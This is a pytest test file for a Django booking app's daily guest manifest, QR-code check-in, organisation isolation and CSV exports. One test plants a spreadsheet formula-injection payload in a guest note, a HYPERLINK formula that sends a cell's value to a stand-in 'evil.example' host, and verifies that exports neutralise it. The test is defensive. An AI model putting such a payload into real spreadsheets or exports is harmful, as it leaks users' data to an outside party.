"""The daily manifest and check-in: a host sees who comes on a day (with the guest register for
stays) and checks guests in by reference or by the QR code of their confirmation; never another
organisation's guests, and a constant number of queries however many come."""

import csv as csv_module
import io
from datetime import datetime, time, timedelta
from email.mime.image import MIMEImage

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from booking.models import Booking, BookingEmail, GuestRegisterEntry, Offer
from booking.services import checkin
from booking.services.emails import build_message
from booking.services.jst import at, today
from booking.services.references import normalise_reference
from tests.booking.account_factories import make_booking
from tests.booking.backoffice_world import make_world
from tests.booking.factories import OfferFactory, PriceCategoryFactory, make_nights

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(home, django_user_model):
    return make_world(home, django_user_model)


def on_the_day(booking: Booking, hour: int = 9) -> datetime:
    return at(booking.service_date, time(hour, 0))


def test_references_are_read_however_they_are_typed():
    assert normalise_reference(" k7m2 qx9a ") == "K7M2-QX9A"
    assert normalise_reference("K7M2QX9A") == "K7M2-QX9A"
    assert normalise_reference("K7M2-QX9") == ""
    assert normalise_reference("O0I1-LLLL") == ""  # look-alikes are never issued


def test_a_host_checks_a_guest_in_once_on_the_day(world):
    booking = make_booking(world.offer_a)
    user = world.users["a"]
    first = checkin.check_in(user, booking.reference.lower(), on_the_day(booking))
    again = checkin.check_in(user, booking.reference, on_the_day(booking, 10))
    assert (first.already, again.already) == (False, True)
    stored = Booking.objects.get(pk=booking.pk)
    assert stored.checked_in_at == on_the_day(booking) and stored.checked_in_by == user


@pytest.mark.parametrize(
    ("status", "when", "message"),
    [
        (Booking.Status.CONFIRMED, -1, "is for"),
        (Booking.Status.CONFIRMED, 14, "ended"),
        (Booking.Status.CANCELLED, 0, "cancelled"),
        (Booking.Status.AWAITING_PAYMENT, 0, "not confirmed"),
    ],
)
def test_check_in_is_refused_with_a_reason(world, status, when, message):
    booking = make_booking(world.offer_a, status=status)
    now = on_the_day(booking) + timedelta(hours=when * 24 if when == -1 else when - 9)
    with translation.override("en"), pytest.raises(checkin.CheckInRefused) as refused:
        checkin.check_in(world.users["a"], booking.reference, now)
    assert message in refused.value.message
    assert Booking.objects.get(pk=booking.pk).checked_in_at is None


def test_another_organisations_booking_is_not_found(world):
    booking = make_booking(world.offer_a)
    with pytest.raises(checkin.CheckInRefused):
        checkin.check_in(world.users["b"], booking.reference, on_the_day(booking))
    assert checkin.find(world.users["b"], booking.reference) is None
    assert Booking.objects.get(pk=booking.pk).checked_in_at is None


def test_the_check_in_page_from_the_qr_code(client, world, monkeypatch):
    day = today()
    booking = make_booking(world.offer_a, day=day)  # 10:00-12:00 today, Japan time
    # The guest arrives during the session, whatever the hour the suite runs at.
    monkeypatch.setattr(timezone, "now", lambda: at(day, time(10, 30)))
    client.force_login(world.users["a"])
    url = checkin.check_in_path(booking)
    page = client.get(url)
    assert page.status_code == 200 and booking.guest_name in page.content.decode()
    done = client.post(reverse("booking_check_in"), {"reference": booking.reference}, follow=True)
    assert done.status_code == 200
    assert Booking.objects.get(pk=booking.pk).checked_in_at is not None
    client.force_login(world.users["b"])
    hidden = client.get(url).content.decode()
    assert booking.guest_name not in hidden
    refused = client.post(reverse("booking_check_in"), {"reference": booking.reference})
    assert refused.status_code == 200


def test_strangers_and_guests_get_no_back_office_pages(client, world, django_user_model):
    guest = django_user_model.objects.create_user("guest", "guest@example.jp", "pw")
    for user in (world.users["stranger"], guest):
        client.force_login(user)
        for name in ("booking_manifest", "booking_check_in"):
            assert client.get(reverse(name)).status_code in (302, 403, 404)
    client.logout()
    response = client.get(reverse("booking_manifest"))
    assert response.status_code == 302 and "login" in response["Location"]


def test_the_confirmation_carries_the_check_in_qr_code(world):
    booking = make_booking(world.offer_a)
    for kind in (BookingEmail.Kind.CONFIRMATION, BookingEmail.Kind.REMINDER):
        message = build_message(BookingEmail(booking=booking, kind=kind), base_url="https://w.jp")
        images = [part for part in message.attachments if isinstance(part, MIMEImage)]
        assert len(images) == 1 and images[0]["Content-ID"] == "<check-in-qr>"
        assert images[0].get_payload(decode=True).startswith(b"\x89PNG")
        assert 'src="cid:check-in-qr"' in message.alternatives[0][0]
        assert booking.reference in message.body
    cancellation = build_message(
        BookingEmail(booking=booking, kind=BookingEmail.Kind.CANCELLATION), base_url="https://w.jp"
    )
    assert not any(isinstance(part, MIMEImage) for part in cancellation.attachments)


def test_the_manifest_lists_the_days_guests_with_the_register_for_stays(client, world):
    day = today() + timedelta(days=3)
    experience = make_booking(world.offer_a, day=day, quantity=3)
    experience.guest_notes = "ベジタリアンです"
    experience.save()
    make_booking(world.offer_a, day=day, status=Booking.Status.CANCELLED)
    theirs = make_booking(world.offer_b, day=day)
    stay_offer = OfferFactory(
        organisation=world.org_a, kind=Offer.Kind.STAY, unit=Offer.Unit.ROOM_NIGHT
    )
    PriceCategoryFactory(offer=stay_offer, code="room", price=15000)
    make_nights(stay_offer, day, 2, capacity=2)
    stay = make_booking(stay_offer, day=day, quantity=1)
    GuestRegisterEntry.objects.create(
        booking=stay,
        name="John Smith",
        address="London",
        phone="+44 20 0000",
        lives_in_japan=False,
        nationality="UK",
        passport_number="P1234567",
    )
    client.force_login(world.users["a"])
    html = client.get(reverse("booking_manifest"), {"date": day.isoformat()}).content.decode()
    assert experience.reference in html and "ベジタリアンです" in html and "× 3" in html
    assert stay.reference in html and "P1234567" in html
    assert theirs.reference not in html
    assert not any(
        b.reference in html for b in Booking.objects.filter(status=Booking.Status.CANCELLED)
    )
    csv = client.get(reverse("booking_manifest"), {"date": day.isoformat(), "format": "csv"})
    body = csv.content.decode("utf-8-sig")
    assert experience.reference in body and theirs.reference not in body
    client.force_login(world.users["b"])
    html = client.get(reverse("booking_manifest"), {"date": day.isoformat()}).content.decode()
    assert theirs.reference in html and "P1234567" not in html
    assert experience.reference not in html


def test_the_manifest_csv_has_a_row_per_guest_with_capacity_booked_and_check_out(client, world):
    day = today() + timedelta(days=3)
    experience = make_booking(world.offer_a, day=day, quantity=3, capacity=8)
    stay_offer = OfferFactory(
        organisation=world.org_a, kind=Offer.Kind.STAY, unit=Offer.Unit.ROOM_NIGHT
    )
    PriceCategoryFactory(offer=stay_offer, code="room", price=15000)
    make_nights(stay_offer, day, 1, capacity=2)
    stay = make_booking(stay_offer, day=day, quantity=1)
    for name in ("和歌山 花子", "和歌山 太郎"):
        GuestRegisterEntry.objects.create(
            booking=stay, name=name, address="和歌山市1-1", phone="090-0000-0000"
        )
    client.force_login(world.users["a"])

    response = client.get(reverse("booking_manifest"), {"date": day.isoformat(), "format": "csv"})

    rows = list(csv_module.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_reference = {}
    for row in rows:
        by_reference.setdefault(row["予約番号"], []).append(row)
    assert [row["宿泊者"] for row in by_reference[stay.reference]] == ["和歌山 花子", "和歌山 太郎"]
    assert {row["定員"] for row in by_reference[stay.reference]} == {"2"}
    assert {row["予約数"] for row in by_reference[stay.reference]} == {"1"}
    check_out = day + timedelta(days=1)
    assert by_reference[stay.reference][0]["終了（チェックアウト）（JST）"] == f"{check_out} 10:00"
    [only] = by_reference[experience.reference]
    assert (only["定員"], only["予約数"], only["宿泊者"]) == ("8", "3", "")
    html = client.get(reverse("booking_manifest"), {"date": day.isoformat()}).content.decode()
    assert f"イン 15:00、アウト {check_out.month}/{check_out.day} 10:00" in html


def test_the_manifest_costs_the_same_queries_however_many_guests(client, world):
    day = today() + timedelta(days=3)
    make_booking(world.offer_a, day=day, capacity=40)
    client.force_login(world.users["a"])
    url, query = reverse("booking_manifest"), {"date": day.isoformat()}
    client.get(url, query)
    with CaptureQueriesContext(connection) as few:
        client.get(url, query)
    for hour in (13, 15):
        make_booking(world.offer_a, day=day, starts=time(hour, 0))
    for _ in range(6):
        make_booking(world.offer_a, day=day)
    with CaptureQueriesContext(connection) as many:
        client.get(url, query)
    assert len(many.captured_queries) == len(few.captured_queries)


def test_a_bad_date_shows_today_and_an_error_not_a_500(client, world):
    client.force_login(world.users["a"])
    for value in ("2026-02-30", "yesterday", "9999-99-99"):
        assert client.get(reverse("booking_manifest"), {"date": value}).status_code == 200
    assert client.get(reverse("booking_manifest"), {"offer": "abc"}).status_code == 200


def test_exports_keep_formula_like_guest_text_as_text(client, world):
    """A guest's note or name starting with "=" must not run as a formula in the host's
    spreadsheet: the manifest and the bookings export keep it as text."""
    day = today() + timedelta(days=3)
    booking = make_booking(world.offer_a, day=day)
    booking.guest_name = "=1+1"
    booking.guest_notes = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    booking.save()
    client.force_login(world.users["a"])
    manifest = client.get(reverse("booking_manifest"), {"date": day.isoformat(), "format": "csv"})
    body = manifest.content.decode("utf-8-sig")
    assert "'=1+1" in body and "'=HYPERLINK" in body
    assert "\n=" not in body and ",=" not in body
    export = client.get(reverse("bookings:index"), {"export": "csv"})
    text = b"".join(export.streaming_content).decode() if export.streaming else ""
    assert "'=1+1" in text and ",=1+1" not in text
